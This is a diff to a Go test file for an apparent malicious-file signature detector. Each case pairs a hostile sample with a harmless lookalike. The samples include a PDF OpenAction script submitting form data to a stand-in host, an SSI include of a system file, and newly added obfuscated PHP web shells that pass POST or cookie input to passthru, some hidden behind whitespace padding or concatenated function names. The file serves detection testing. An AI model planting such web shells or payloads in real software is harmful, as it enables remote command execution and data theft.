@@ -69,6 +69,12 @@ func TestSigns(t *testing.T) {
 	f(&readerCode, point.FileHead, "%PDF-1.4 <</FontMatrix[1 0 0 1 0 (k\\)//)]>>", "%PDF-1.4 <</FontMatrix[1 0 0 1 0 0]>>")
 	f(&readerCode, point.FileHead, `%PDF-1.4 <</OpenAction<</S/JavaScript/JS(this.submitForm\("http://k.example"\))>>>>`, `%PDF-1.4 <</OpenAction<</S/JavaScript/JS(this.print\(true\))>>>>`)
 	f(&commandCall, point.FileHead, `<!--#include file="/etc/k"-->`, `<!--#include virtual="/k.html"-->`)
+	gap := strings.Repeat(" ", near)
+	f(&commandCall, point.FileHead, "<?php class K{} ?>"+gap+"<?php passthru($k); ?>", "<?php class K{} ?>"+gap+"<?php echo $k; ?>")
+	f(&commandCall, point.FileHead, "<?php class K{} /*"+gap+"*/passthru($_POST['k']);", "<?php class K{} /*"+gap+"*/$this->exec($_POST['k']);")
+	f(&commandCall, point.FileHead, "<?php class K{} $k='pass'.'thru';$k($_POST['k']);", "<?php class K{} $k=$l->find($_POST['k']); $m->$k($_POST['k']);")
+	f(&commandCall, point.FileHead, "<?php class K{} ('pass'.'thru')($_COOKIE['k']);", "<?php class K{} if (isset($k) && ($_COOKIE['k'])) {}")
+	f(&commandCall, point.FileHead, strings.Repeat("<b>", 99)+"<?php passthru($_POST['k']);", strings.Repeat("<b>", 99)+"<?php class K{} retrieve($_POST['k']);")
 	f(&settings, point.FileHead, `<system.web><httpHandlers><add/>`, `<system.web><pages/>`)
 }
 
